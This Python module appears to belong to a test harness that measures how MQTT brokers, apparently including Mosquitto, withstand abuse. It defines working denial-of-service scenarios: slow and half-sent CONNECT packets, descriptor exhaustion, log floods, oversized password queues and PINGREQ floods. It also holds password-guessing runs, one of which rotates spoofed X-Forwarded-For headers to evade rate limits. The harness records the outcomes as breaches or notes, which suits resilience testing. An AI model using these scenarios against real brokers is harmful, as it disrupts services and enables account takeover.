"""Attack before the log-in: memory, descriptors and log that a client without an account can cost."""

from __future__ import annotations

import contextlib
import struct
from typing import TYPE_CHECKING

from perf.attacks import wire
from perf.attacks.attack import attack
from perf.attacks.scene import Client

if TYPE_CHECKING:
    from perf.attacks.scene import Scene

MANY = 250  # source addresses of an attack that has many


@attack("half-connect", "3,000 connections announce a CONNECT of 100 kB and send 20 bytes of it", "7")
def half_connect(scene: Scene) -> None:
    head = b"\x10\xa0\x8d\x06\0\x04MQTT\x04\xc2\0\0"
    scene.crowd(3000, lambda _: head)
    scene.hold()


@attack("half-connect-many", "3,000 connections from 250 addresses send 60 of 100 kB of a CONNECT", "7")
def half_connect_many(scene: Scene) -> None:
    content = wire.connect("half", user="u" * 40_000, password="p" * 60_000)[:-40_000]
    scene.crowd(3000, lambda _: content, addresses=MANY)
    scene.hold()


@attack(
    "descriptors",
    "400 idle connections to a broker with 256 descriptors and a store on disk",
    "6",
    descriptors=256,
    config="persistence true\npersistence_location {dir}/\n",
)
def descriptors(scene: Scene) -> None:
    scene.crowd(400, lambda _: b"", addresses=MANY)
    scene.hold()


@attack(
    "descriptors-logged-in",
    "400 clients log in to a broker with 256 descriptors, and publish to its store",
    "6",
    descriptors=256,
    config="persistence true\npersistence_location {dir}/\n",
    may_refuse=True,
)
def descriptors_logged_in(scene: Scene) -> None:
    clients = scene.clients(400, lambda i: wire.connect(f"idle{i}", clean=False))
    scene.note(f"{len(clients)} clients")
    scene.flood(clients[:5], lambda i: wire.publish(b"a", bytes(1000), qos=1, mid=1, retain=True) * 20)


def _log_flood(scene: Scene, content: bytes) -> None:
    n = 0
    with contextlib.suppress(TimeoutError):
        while not scene.over():
            with contextlib.suppress(ConnectionError):
                sock = scene.open(timeout_s=scene.left())
                sock.send(content)
                sock.recv(100)
                sock.close()
                n += 1
    scene.note(f"{n} connections")


@attack("log-flood", "connections one after the other, each with a packet that is refused and logged", "low")
def log_flood(scene: Scene) -> None:
    _log_flood(scene, b"\x10\x20\0\x04MQTT\x09\x02\0\0\0\x14" + b"n" * 20)


@attack("connect-flood", "connections one after the other that log in with long client ids and end", "low")
def connect_flood(scene: Scene) -> None:
    _log_flood(scene, wire.connect("i" * 200, keepalive=10))


@attack(
    "password-queue",
    "2,000 clients with wrong passwords of 60 kB wait for their password hash",
    "7",
    config="allow_anonymous false\npassword_file {dir}/passwd\n",
    user="victim",
    victims=("ping", "publish"),
)
def password_queue(scene: Scene) -> None:
    scene.crowd(2000, lambda i: wire.connect(f"w{i}", user="victim", password="p" * 60_000), addresses=MANY)
    scene.hold()


@attack(
    "guesses",
    "2,000 guesses of a password whose right value is cached; then the right one, during the pause",
    "4",
    config="allow_anonymous false\npassword_file {dir}/passwd\n",
    user="victim",
    victims=("ping", "publish"),
)
def guesses(scene: Scene) -> None:
    """The victim has logged in from another address, so the cache of verdicts knows its password."""
    for i in range(2000):
        if scene.over():
            break
        with contextlib.suppress(OSError):
            sock = scene.open(timeout_s=scene.left())
            sock.send(wire.connect("guess", user="victim", password=f"wrong{i}"))
            sock.recv(4)
            sock.close()
    with contextlib.suppress(OSError):
        scene.client(wire.connect("guess", user="victim", password="victim"), timeout_s=3)
        if scene.name == "mosq":
            scene.breach("the right password was accepted from the guesser's address during its pause")
        else:
            scene.note("the right password was accepted after the guesses")


@attack(
    "forwarded-for",
    "guesses through WebSockets with another X-Forwarded-For each; then the right password",
    "5",
    config="allow_anonymous false\npassword_file {dir}/passwd\n",
    user="victim",
    listeners=("ws",),
    victims=("ping", "publish"),
)
def forwarded_for(scene: Scene) -> None:
    def guess(i: int, password: str) -> bool:
        header = b"X-Forwarded-For: 198.51.100.%d\r\n" % (i % 250)
        try:
            scene.client(wire.connect("g", user="victim", password=password), "ws", headers=header, timeout_s=3).close()
        except OSError:
            return False
        return True

    n = 0
    while n < 200 and not scene.over():
        guess(n, f"wrong{n}")
        n += 1
    if guess(249, "victim"):
        (scene.breach if scene.name == "mosq" else scene.note)(f"the right password was accepted after {n} guesses")


@attack("proxy-trickle", "500 connections send a PROXY header byte by byte", listeners=("proxy",), mosquitto=False)
def proxy_trickle(scene: Scene) -> None:
    header = b"\r\n\r\n\0\r\nQUIT\n\x21\x11" + struct.pack("!H", 2000) + bytes(2000)
    socks = scene.crowd(500, lambda _: b"", "proxy")
    for at in range(len(header)):
        for sock in socks:
            with contextlib.suppress(OSError):
                sock.send(header[at : at + 1])
        if scene.over():
            break


@attack("slow-bytes", "300 connections send valid packets byte by byte")
def slow_bytes(scene: Scene) -> None:
    content = wire.connect("") + wire.publish(b"a/b/c", b"x" * 40) * 1000
    socks = scene.crowd(300, lambda _: b"")
    for at in range(len(content)):
        for sock in socks:
            with contextlib.suppress(OSError):
                sock.send(content[at : at + 1])
        if scene.over():
            break


@attack("early-packets", "a client sends 16 MB of PINGREQ behind its CONNECT before it reads anything", "7")
def early_packets(scene: Scene) -> None:
    sock = scene.open()
    client = Client(sock)
    sock.sendall(wire.connect("early"))
    scene.flood([client], lambda i: wire.PINGREQ * 100_000, read=False, most=80)
    scene.hold()
